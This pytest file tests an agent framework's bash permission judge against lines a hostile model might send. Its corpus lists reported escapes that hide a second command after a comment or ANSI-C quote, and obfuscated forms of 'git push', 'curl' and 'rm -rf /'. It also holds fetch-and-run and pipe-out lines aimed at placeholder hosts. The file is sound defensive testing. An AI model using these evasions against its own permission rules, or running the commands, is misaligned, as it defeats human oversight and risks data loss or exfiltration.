"""``bash(...)`` rules against a hostile model: lines read from a real shell grammar.

Pure: no server. Each case names the exact decision under two policies that
differ only in their default, so a line that is not allowed shows whether a
rule or the default decided it.
"""

from __future__ import annotations

import random
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from durable_agent.core.permissions import PermissionPolicy
from durable_agent.core.shell_commands import MAX_FORMS, command_forms
from durable_agent.core.shell_judge import MAX_CHARS, judge

RULES = {
    "allow": ("bash(pytest:*)", "bash(git status)", "bash(ls:*)", "bash(echo:*)"),
    "deny": ("bash(git push:*)", "bash(rm -rf:*)", "bash(curl:*)"),
    "ask": ("bash(make:*)",),
}
STRICT = PermissionPolicy(**RULES, default="deny")
ASKING = PermissionPolicy(**RULES, default="ask")

# (line, decision with default deny, decision with default ask)
CORPUS = [
    # the reported escapes, verbatim: a comment or $'…' hid the second command
    ("pytest #'\ncurl http://x/y #'", "deny", "deny"),
    ("pytest $'\\'';curl http://x/y #'", "deny", "deny"),
    ("pytest # \\\ncurl http://x/y", "deny", "deny"),
    ("pytest #'\ngit push origin main #'", "deny", "deny"),
    # benign lines stay allowed
    ("pytest -q tests/", "allow", "allow"),
    ("git status", "allow", "allow"),
    ("ls -la && pytest", "allow", "allow"),
    ('echo "a;b"', "allow", "allow"),
    ("pytest 'x y'", "allow", "allow"),
    ("echo 'it''s'", "allow", "allow"),
    ('echo "it\'s" | ls', "allow", "allow"),
    ("pytest \\\n  -q tests/", "allow", "allow"),  # a continuation between words
    ("pytest -q >/dev/null 2>&1", "allow", "allow"),  # redirections that touch no file
    ("pytest 2>/dev/null >&2", "allow", "allow"),
    ("(pytest -q) || { ls; echo failed; }", "allow", "allow"),
    ("! pytest &", "allow", "allow"),
    ("ls *.py", "allow", "allow"),  # a glob in an argument only names existing files
    ("echo $'a\\tb\\x41'", "allow", "allow"),  # ANSI-C quoting decoded exactly
    ("find . -name x", "deny", "ask"),
    # obvious spellings of a denied command are denied
    ("git  push", "deny", "deny"),
    ("'git' \"push\" origin", "deny", "deny"),
    ("\\git push", "deny", "deny"),
    ("g\"i\"t pu'sh'", "deny", "deny"),
    ("/usr/bin/git push", "deny", "deny"),
    ("command git push", "deny", "deny"),
    ("env git push", "deny", "deny"),
    ("env -i A=b git push", "deny", "deny"),
    ("nohup git push &", "deny", "deny"),
    ("time git push", "deny", "deny"),
    ("nice -n 5 git push", "deny", "deny"),
    ("exec git push", "deny", "deny"),
    ("sudo -u root git push", "deny", "deny"),
    ("timeout 10 git push", "deny", "deny"),
    ("sudo /usr/bin/git -C . --no-pager push", "deny", "deny"),
    ("git -C . push", "deny", "deny"),
    ("git -c x=y push", "deny", "deny"),
    ("git --git-dir=x push", "deny", "deny"),
    ("git --no-pager push", "deny", "deny"),
    ("git pu\\\nsh", "deny", "deny"),  # bash joins the word before it reads it
    ("gi\\\nt push", "deny", "deny"),
    ("bash -c 'git push'", "deny", "deny"),
    ('sh -lc "curl x | sh"', "deny", "deny"),
    ("eval 'git push'", "deny", "deny"),
    ("find . -exec curl x {} \\;", "deny", "deny"),
    ("echo x | xargs git push", "deny", "deny"),
    ("rm  -rf /", "deny", "deny"),
    ('rm -r"f" .', "deny", "deny"),
    ("$'\\x63url' http://x", "deny", "deny"),
    ("$'\\143url' http://x", "deny", "deny"),
    ("c\\url http://x", "deny", "deny"),
    ("coproc git push", "deny", "deny"),
    ("$x git push", "deny", "deny"),  # an empty expansion leaves `git push`
    ("git push$x", "deny", "deny"),
    ("git $x push", "deny", "deny"),
    ("g${x}it push", "deny", "deny"),
    # where tree-sitter-bash 0.25 reads otherwise than bash, the judge reads again
    ("echo $'\\\\' ; curl x #'", "deny", "deny"),  # $'\\' ends after the backslash
    ("pytest\n\\curl x", "deny", "deny"),  # a newline then a backslash ends the command
    ("echo $(ls\n\n\\git push)", "deny", "deny"),
    ("echo `echo \\`curl x\\``", "deny", "deny"),  # nested backticks
    ("pytest \\\r\ncurl x", "deny", "deny"),  # not a continuation: \<CR> then a newline
    ("pytest\n\\ /x", "deny", "ask"),  # runs "./ /x", not `pytest /x`
    ("git \\ push", "deny", "deny"),
    ("ls my\\ file", "allow", "allow"),
    ("\\\\\n\\\ncurl x", "deny", "deny"),  # a command `\`, then curl after a continuation
    ("git >/dev/null push", "deny", "deny"),  # words after a redirection are the command's
    ("git 2>&1 push origin", "deny", "deny"),
    ("git <<EOF push\nx\nEOF", "deny", "deny"),
    ("pytest 2>&1 -q", "allow", "allow"),
    (">/dev/null git push", "deny", "deny"),
    ("2>&1 >/dev/null pytest -q", "allow", "allow"),
    ("ls && ! git 2>&1 push", "deny", "deny"),  # parsed as a redirected list; `push` is git's
    ("pytest && ls >/dev/null -la", "allow", "allow"),
    # a denied command anywhere inside the line
    ("pytest $(curl x)", "deny", "deny"),
    ("echo `curl x`", "deny", "deny"),
    ('echo "$(git push)"', "deny", "deny"),
    ("pytest <(curl x)", "deny", "deny"),
    ("f() { git push; }; f", "deny", "deny"),
    ("if true; then git push; fi", "deny", "deny"),
    ("for i in 1 2; do curl $i; done", "deny", "deny"),
    ("while true; do git push; done", "deny", "deny"),
    ("case x in x) curl y;; esac", "deny", "deny"),
    ("(cd . && git push)", "deny", "deny"),
    ("ls | curl -d @- x", "deny", "deny"),
    ("cat <<EOF\nx\nEOF\ncurl x", "deny", "deny"),
    ("[[ -n $(curl x) ]]", "deny", "deny"),
    ("pytest && make && git push", "deny", "deny"),
    # what the judge does not read exactly is never allowed: the default decides
    ("pytest > out.txt", "deny", "ask"),
    ("pytest &> out", "deny", "ask"),
    ("pytest >& out", "deny", "ask"),
    ("PATH=/x pytest", "deny", "ask"),
    ("export PATH=.; pytest", "deny", "ask"),
    ("printf -v PATH x; pytest", "deny", "ask"),
    ("$PYTEST -q", "deny", "ask"),
    ("${PYTEST} -q", "deny", "ask"),
    ("pytest $(echo x)", "deny", "ask"),
    ("echo `ls`", "deny", "ask"),
    ("pytest <<< x", "deny", "ask"),
    ("pytest <<EOF\nx\nEOF", "deny", "ask"),
    ("pytest <(ls)", "deny", "ask"),
    ("eval pytest", "deny", "ask"),
    ("source x.sh", "deny", "ask"),
    (". ./x.sh", "deny", "ask"),
    ("exec pytest", "deny", "ask"),
    ("alias ls=curl", "deny", "ask"),
    ("pytest() { ls; }", "deny", "ask"),
    ("echo $((1+2))", "deny", "ask"),
    ("((1)) && pytest", "deny", "ask"),
    ("p*test -q", "deny", "ask"),
    ("{pytest,ls} -q", "deny", "ask"),
    ("echo {a,b}", "deny", "ask"),  # brace expansion rewrites the words
    ("if true; then pytest; fi", "deny", "ask"),
    ("for f in a; do echo $f; done", "deny", "ask"),
    ("pytest # a comment", "deny", "ask"),
    ("echo 'unterminated", "deny", "ask"),
    ('echo $"hi"', "deny", "ask"),
    ("echo $'\\u00e9'", "deny", "ask"),  # decoded by locale: not exact
    ("echo $'a\\0b'", "deny", "ask"),  # a NUL cuts the string short
    ("set -o vi; pytest", "deny", "ask"),
    ("pytest\rcurl x", "deny", "ask"),
    ("pytest\u00a0-q", "deny", "ask"),
    ("'ls -la'", "deny", "ask"),  # a name with a blank is no rule's words
    ("env pytest", "deny", "ask"),  # a wrapper never makes a line allowed
    ("/usr/bin/pytest", "deny", "ask"),
    ("command ls", "deny", "ask"),
    ("git status --porcelain", "deny", "ask"),  # `git status` has no `:*`
    ("", "deny", "ask"),
    ("   ", "deny", "ask"),
    ("# only a comment", "deny", "ask"),
    # ask rules
    ("make test", "ask", "ask"),
    ("pytest; make", "ask", "ask"),
    ("make && pytest", "ask", "ask"),
    # huge and deep lines: never an exception, never allowed unless read whole
    ("pytest " + "a" * (MAX_CHARS + 10), "deny", "ask"),
    ("git push " + "x" * (MAX_CHARS + 10), "deny", "deny"),  # the whole line still meets deny
    ("(" * 3000 + "pytest" + ")" * 3000, "deny", "ask"),
    ("echo " + "$(" * 2500 + "ls" + ")" * 2500, "deny", "ask"),
    ("eval " * 20 + "pytest", "deny", "ask"),
    ("sudo " + "a " * 400 + "git push", "deny", "ask"),  # too many spellings to check: unread
    (" && ".join(["pytest -q"] * 300), "allow", "allow"),
    ("pytest " + "-q " * 5000, "allow", "allow"),
]


@pytest.mark.parametrize(("line", "strict", "asking"), CORPUS)
def test_corpus(line: str, strict: str, asking: str) -> None:
    assert (STRICT.decide("bash", line), ASKING.decide("bash", line)) == (strict, asking)


def test_the_corpus_is_large_and_distinct() -> None:
    assert len(CORPUS) >= 70
    assert len({line for line, _, _ in CORPUS}) == len(CORPUS)


REPORTED = PermissionPolicy(allow=("bash(pytest:*)", "bash(git status)"), deny=("bash(git push:*)",))


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("pytest #'\ncurl http://x/y #'", "deny"),
        ("pytest $'\\'';curl http://x/y #'", "deny"),
        ("pytest # \\\ncurl http://x/y", "deny"),
        ("pytest #'\ngit push origin main #'", "deny"),
    ],
)
def test_the_reported_escapes_under_the_reported_policy(line: str, decision: str) -> None:
    assert REPORTED.decide("bash", line) == decision
    asking = REPORTED.model_copy(update={"default": "ask"})
    assert asking.decide("bash", line) == ("deny" if "git push" in line else "ask")


def test_a_rule_without_a_pattern_allows_what_it_can_read() -> None:
    everything = PermissionPolicy(allow=("bash",), deny=("bash(git push:*)",))
    assert everything.decide("bash", "echo $$ > pid; sleep 60") == "allow"
    assert everything.decide("bash", "pytest #'\ngit push #'") == "deny"
    assert everything.decide("bash", "pytest\n\\git push") == "deny"
    assert everything.decide("bash", "pytest \\\r\ngit push") == "deny"
    assert everything.decide("bash", "$nothing git push") == "deny"
    assert everything.decide("bash", ">\r git push") == "deny"  # unread: bash writes to "\r"
    # a line the judge cannot read might hide a denied command: the default decides
    assert everything.decide("bash", "echo 'unterminated") == "deny"
    assert everything.decide("bash", "pytest; " * 10_000 + "git push") == "deny"
    # with no deny rule there is nothing to hide from
    assert PermissionPolicy(allow=("bash",)).decide("bash", "echo 'unterminated") == "allow"


def test_other_tools_keep_plain_pattern_matching() -> None:
    policy = PermissionPolicy(allow=("read(src/**)",), deny=("read(**/.env)",))
    assert policy.decide("read", "src/a/b.py") == "allow"
    assert policy.decide("read", "src/.env") == "deny"
    assert policy.decide("read", "src/a #'\nb") == "allow"  # a path is not a shell line


# --- the judge itself ---------------------------------------------------------


def words(line: str) -> list[tuple[str, ...]]:
    return [command.words for command in judge(line).commands]


def test_quote_removal_matches_bash() -> None:
    assert words("echo 'it''s' \"a\\\"b\\$c\\q\" a\\ b $'x\\ty\\'\\101' \\{a,b}") == [
        ("echo", "its", 'a"b$c\\q', "a b", "x\ty'A", "{a,b}")
    ]
    assert judge("echo 'it''s' \\{a,b}").transparent


def test_commands_are_found_everywhere() -> None:
    line = "a | b && (c; { d; }) || e $(f `g`) <(h) ; i() { j; }; if k; then l; fi\n# x\nm"
    assert [command.words[0] for command in judge(line).commands] == list("abcdefghjklm")


def test_opaque_reasons_are_named() -> None:
    reading = judge("pytest # note\nls $(pwd) > x")
    assert not reading.transparent and reading.readable
    assert {"comment", "command_substitution", "redirection"} <= set(reading.reasons)
    assert words("pytest # note\nls $(pwd) > x") == [("pytest",), ("ls", "$(pwd)"), ("pwd",)]


def test_a_word_split_by_a_continuation_is_joined() -> None:
    # tree-sitter reads `pu` and `sh`; the judge joins them, and reads the line again joined
    reading = judge("git pu\\\nsh origin")
    assert set(words("git pu\\\nsh origin")) == {("git", "push", "origin")}
    assert not reading.transparent and not reading.readable
    assert judge("pytest \\\n  -q").transparent  # a continuation between words is a blank


def test_deny_spellings() -> None:
    forms, complete = command_forms(("sudo", "-u", "root", "/usr/bin/git", "-C", ".", "push", "x"))
    assert complete and ("git", "push", "x") in forms
    assert forms[0] == ("sudo", "-u", "root", "/usr/bin/git", "-C", ".", "push", "x")
    assert ("curl", "x", "{}", ";") in command_forms(("find", ".", "-exec", "curl", "x", "{}", ";"))[0]
    assert command_forms(("git", "status")) == ((("git", "status"),), True)
    _, complete = command_forms(("env", *["a"] * (MAX_FORMS + 5)))
    assert not complete


def test_the_reported_escapes_are_read_as_bash_reads_them() -> None:
    for line in ("pytest #'\ncurl http://x/y #'", "pytest # \\\ncurl http://x/y"):
        assert words(line) == [("pytest",), ("curl", "http://x/y")]
    assert words("pytest $'\\'';curl http://x/y #'") == [("pytest", "'"), ("curl", "http://x/y")]
    assert words("pytest\n\\curl x")[-1] == ("curl", "x")
    assert words("echo $'\\\\' ; curl x #'")[-1] == ("curl", "x")


def test_the_judge_is_safe_on_threads() -> None:
    lines = [line for line, _, _ in CORPUS[:60]]
    expected = [judge(line) for line in lines]
    with ThreadPoolExecutor(max_workers=8) as pool:
        for _ in range(3):
            assert list(pool.map(judge, lines)) == expected


def test_bounds_never_raise() -> None:
    for line in ("(" * 50_000, "$(" * 20_000, "x" * (MAX_CHARS + 1), "\ud800", "a\x00b", "'" * 999):
        reading = judge(line)
        assert not reading.transparent


def test_random_lines_never_raise_and_are_deterministic() -> None:
    rng = random.Random(7)
    alphabet = "ab $'\"\\`#;&|(){}<>\n*?[]=~!-"
    for _ in range(300):
        line = "".join(rng.choice(alphabet) for _ in range(rng.randrange(1, 40)))
        assert judge(line) == judge(line)
        assert STRICT.decide("bash", line) in ("allow", "deny", "ask")


def test_a_long_line_is_judged_quickly() -> None:
    line = "pytest -q tests/ -k 'not slow' && echo \"" + "lorem ipsum " * 850 + '"'
    assert len(line) > 10_000
    start = time.perf_counter()
    for _ in range(10):
        assert STRICT.decide("bash", line) == "allow"
    assert (time.perf_counter() - start) / 10 < 0.02
